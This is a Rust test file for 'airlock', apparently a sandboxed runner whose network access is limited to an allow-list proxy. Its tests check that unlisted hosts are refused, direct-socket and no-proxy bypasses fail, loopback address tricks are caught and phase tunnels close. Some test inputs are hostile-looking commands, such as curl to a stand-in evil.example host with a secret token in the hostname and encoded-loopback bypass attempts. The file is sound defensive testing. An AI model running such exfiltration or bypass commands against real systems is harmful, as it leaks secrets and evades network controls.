//! A network that is a list: programs reach what is on it through the runner, and nothing else.

use std::{
    io::{Read, Write},
    net::{SocketAddr, TcpListener, TcpStream},
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
    },
};

use airlock::{
    domain::{
        Phase, Verdict,
        network::{Denied, Reached},
        stack::NetworkMode,
    },
    protocol::Step,
};
use rustls::{
    ServerConfig, ServerConnection, StreamOwned,
    crypto::aws_lc_rs,
    pki_types::{PrivateKeyDer, PrivatePkcs8KeyDer},
};

use super::{
    process::Outcome,
    trial::{Trial, perform},
};

/// Of this machine, and not what programs take for their own without asking the proxy.
const ELSEWHERE: &str = "127.0.0.2:0";

/// A host outside of the jail that answers `hello` until the test ends.
struct Server {
    address: SocketAddr,
    connections: Arc<AtomicUsize>,
}

impl Server {
    fn plain() -> Self {
        Self::start(answer)
    }

    /// With a certificate for its address; gives that, too.
    fn secure() -> (Self, String) {
        let made = rcgen::generate_simple_self_signed(["127.0.0.2".to_owned()]).unwrap();
        let key = PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(made.signing_key.serialize_der()));
        let config = ServerConfig::builder_with_provider(Arc::new(aws_lc_rs::default_provider()))
            .with_safe_default_protocol_versions()
            .unwrap()
            .with_no_client_auth()
            .with_single_cert(vec![made.cert.der().clone()], key)
            .unwrap();
        let config = Arc::new(config);
        let server = Self::start(move |stream| {
            answer(StreamOwned::new(ServerConnection::new(Arc::clone(&config)).unwrap(), stream));
        });
        (server, made.cert.pem())
    }

    fn start(converse: impl Fn(TcpStream) + Send + 'static) -> Self {
        let listener = TcpListener::bind(ELSEWHERE).unwrap();
        let (address, connections) = (listener.local_addr().unwrap(), Arc::new(AtomicUsize::new(0)));
        let count = Arc::clone(&connections);
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                count.fetch_add(1, Ordering::SeqCst);
                converse(stream.unwrap());
            }
        });
        Self { address, connections }
    }

    fn connected(&self) -> usize {
        self.connections.load(Ordering::SeqCst)
    }
}

/// A client that goes away in the middle has its reasons.
fn answer(mut stream: impl Read + Write) {
    let mut request = Vec::new();
    let mut piece = [0; 1024];
    while !request.windows(4).any(|end| end == b"\r\n\r\n") {
        match stream.read(&mut piece) {
            Ok(0) | Err(_) => return,
            Ok(read) => request.extend_from_slice(&piece[..read]),
        }
    }
    let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nhello\n");
    let _ = stream.flush();
}

fn run(network: NetworkMode, files: &[(&str, &str)], command: &str) -> Outcome {
    let mut trial = Trial::new();
    trial.network = network;
    let prepare = trial.prepare(files);
    trial.steps = vec![prepare, perform(command)];
    trial.run()
}

fn allow(listed: &[&Server]) -> NetworkMode {
    NetworkMode::Allow(listed.iter().map(|server| server.address.to_string()).collect())
}

fn log(outcome: &Outcome) -> String {
    outcome.log(Phase::Performing)
}

#[test]
fn a_listed_host_is_reached_through_the_proxy_and_recorded() {
    let server = Server::plain();
    let outcome = run(allow(&[&server]), &[], &format!("curl -sS http://{0}/ http://{0}/", server.address));
    assert_eq!(log(&outcome), "hello\nhello\n");
    let produced = &outcome.phase(Phase::Performing).produced;
    let [Reached { host, port, requests, bytes_in, bytes_out }] = &produced.hosts[..] else { panic!("{produced:?}") };
    assert_eq!((host.as_str(), *port, *requests), ("127.0.0.2", server.address.port(), 2));
    assert!(*bytes_in > 100 && *bytes_out > 100, "{produced:?}");
    assert_eq!(produced.denials, []);
}

#[test]
fn tls_goes_through_a_tunnel_and_trusts_whom_the_program_trusts() {
    let (server, certificate) = Server::secure();
    let fetch = format!("curl -sS --cacert ca.pem https://{}/", server.address);
    let outcome = run(allow(&[&server]), &[("ca.pem", &certificate)], &fetch);
    assert_eq!(log(&outcome), "hello\n");
    assert_eq!(outcome.phase(Phase::Performing).produced.hosts[0].requests, 1);
}

#[test]
fn what_is_not_listed_is_refused_with_a_reason_and_noted_once() {
    let (listed, other) = (Server::plain(), Server::plain());
    let script = format!(
        "for i in 1 2 3; do curl -sS http://{0}/; done; curl -sS https://{0}/; curl -sS http://evil.example/; \
         curl -sS http://localtest.example:{1}/; exit 0",
        other.address,
        listed.address.port()
    );
    let outcome = run(allow(&[&listed]), &[], &script);
    let (text, refusal) = (log(&outcome), format!("airlock: {} is not on this run's list", other.address));
    assert_eq!(text.matches(&refusal).count(), 3, "{text}");
    let note = format!("[airlock] refused GET http://{0}: {0} is not on this run's list\n", other.address);
    assert_eq!(text.matches(&note).count(), 1, "{text}");
    assert!(text.contains(&format!("[airlock] refused CONNECT {}: ", other.address)), "{text}");
    let produced = &outcome.phase(Phase::Performing).produced;
    let denials: Vec<_> = produced.denials.iter().map(|denial| (denial.what, denial.count)).collect();
    assert_eq!(denials, [(Denied::Host, 3), (Denied::Host, 1), (Denied::Host, 1), (Denied::Host, 1)]);
    assert_eq!((produced.hosts.len(), other.connected(), listed.connected()), (0, 0, 0));
}

#[test]
fn without_the_proxy_there_is_no_way_out() {
    let server = Server::plain();
    let connect = format!(
        "perl -MSocket -e 'socket(my $s, PF_INET, SOCK_STREAM, 0) or die; \
         connect($s, sockaddr_in({}, inet_aton(\"127.0.0.2\"))) or die \"refused\\n\"; print \"connected\\n\"'",
        server.address.port()
    );
    let direct = format!("curl -sS --noproxy '*' http://{}/", server.address);
    for attempt in [&connect, &direct] {
        let outcome = run(allow(&[&server]), &[], attempt);
        assert!(!outcome.verdict(Phase::Performing).is_success(), "{}", log(&outcome));
        assert_eq!(server.connected(), 0);
    }
    // The control: what was attempted is possible where the network is the host's.
    for (n, attempt) in [(1, &connect), (2, &direct)] {
        let outcome = run(NetworkMode::Host, &[], attempt);
        assert_eq!(*outcome.verdict(Phase::Performing), Verdict::SUCCESS, "{}", log(&outcome));
        assert_eq!(server.connected(), n);
    }
}

#[test]
fn this_machine_and_its_network_are_not_reached_by_tricks() {
    let server = Server::plain();
    let port = server.address.port();
    // Listed is a name that the host's own files give to this machine, and nothing else.
    let script = format!(
        "curl -sS http://localhost.:{port}/ --noproxy ''; curl -sS http://0x7f.2:{port}/ --proxy \"$HTTP_PROXY\"; \
         curl -sS http://2130706434:{port}/; curl -sS -H 'Host: localhost:{port}' http://{}/; exit 0",
        server.address
    );
    let outcome = run(NetworkMode::Allow(vec![format!("localhost:{port}")]), &[], &script);
    assert_eq!(server.connected(), 0, "{}", log(&outcome));
    assert!(log(&outcome).contains("a loopback address that is not on this run's list"), "{}", log(&outcome));
    assert!(!log(&outcome).contains("hello"));
}

#[test]
fn programs_find_the_proxy_in_either_case_whatever_the_stack_says() {
    let mut trial = Trial::task("env | grep -i _proxy | sort");
    trial.network = NetworkMode::Allow(Vec::new());
    trial.variables.push(airlock::protocol::Variable {
        name: airlock::domain::EnvName::new("HTTPS_PROXY").unwrap(),
        value: airlock::crypt::Secret::new("http://elsewhere.example:3128".to_owned()),
        sensitive: false,
    });
    let outcome = trial.run();
    let text = log(&outcome);
    for name in ["ALL_PROXY", "HTTPS_PROXY", "HTTP_PROXY", "all_proxy", "https_proxy", "http_proxy"] {
        assert!(text.lines().any(|line| line == format!("{name}=http://127.0.0.1:8202")), "{text}");
    }
    for name in ["NO_PROXY", "no_proxy"] {
        assert!(text.lines().any(|line| line == format!("{name}=localhost,127.0.0.1,::1")), "{text}");
    }
    assert_eq!(text.lines().count(), 8, "{text}");
}

#[test]
fn a_secret_in_a_host_s_name_is_masked_in_the_record() {
    let mut trial = Trial::task("curl -sS http://$TOKEN.evil.example/; exit 0").sensitive("TOKEN", "s3cret-t0ken");
    trial.network = NetworkMode::Allow(Vec::new());
    let outcome = trial.run();
    let denial = &outcome.phase(Phase::Performing).produced.denials[0];
    assert_eq!(denial.tried, "GET http://*****.evil.example");
    assert!(!outcome.holds("s3cret-t0ken"));
}

#[test]
fn every_phase_has_a_way_out_of_its_own() {
    let server = Server::plain();
    let fetch = format!("curl -sS http://{}/", server.address);
    let mut trial = Trial::planning(&format!("{fetch}; exit 0"), "true").with_ending(&fetch);
    trial.kind = airlock::domain::Kind::Proposed;
    trial.network = allow(&[&server]);
    let outcome = trial.run();
    assert!(matches!(trial.steps[2], Step::Shell(_)));
    for phase in [Phase::Planning, Phase::Ending] {
        assert_eq!(outcome.log(phase), "hello\n");
        assert_eq!(outcome.phase(phase).produced.hosts[0].requests, 1);
    }
    assert_eq!(outcome.phase(Phase::Initializing).produced.hosts, []);
}

#[test]
fn a_tunnel_does_not_outlive_its_phase() {
    // The host never finishes; the phase ends, and its connection with it.
    let listener = TcpListener::bind(ELSEWHERE).unwrap();
    let address = listener.local_addr().unwrap();
    let gone = std::thread::spawn(move || {
        let (mut stream, _) = listener.accept().unwrap();
        let mut rest = Vec::new();
        stream.read_to_end(&mut rest).map_err(|error| error.kind())
    });
    let script = format!(
        "perl -MSocket -e 'socket(my $s, PF_INET, SOCK_STREAM, 0) or die; \
         connect($s, sockaddr_in(8202, inet_aton(\"127.0.0.1\"))) or die; \
         syswrite($s, \"CONNECT {address} HTTP/1.1\\r\\n\\r\\n\"); sysread($s, my $answer, 12); print \"$answer\\n\"'"
    );
    let outcome = run(NetworkMode::Allow(vec![address.to_string()]), &[], &script);
    assert_eq!(log(&outcome), "HTTP/1.1 200\n");
    assert!(matches!(gone.join().unwrap(), Ok(0) | Err(std::io::ErrorKind::ConnectionReset)));
}

#[test]
fn a_list_that_cannot_be_read_runs_nothing() {
    let outcome = run(NetworkMode::Allow(vec!["*".to_owned()]), &[], "echo ran");
    let Verdict::Refused { reason } = outcome.verdict(Phase::Performing) else { panic!("{outcome:?}") };
    assert!(reason.contains("the list of hosts cannot be used: `*` is not a host"), "{reason}");
}
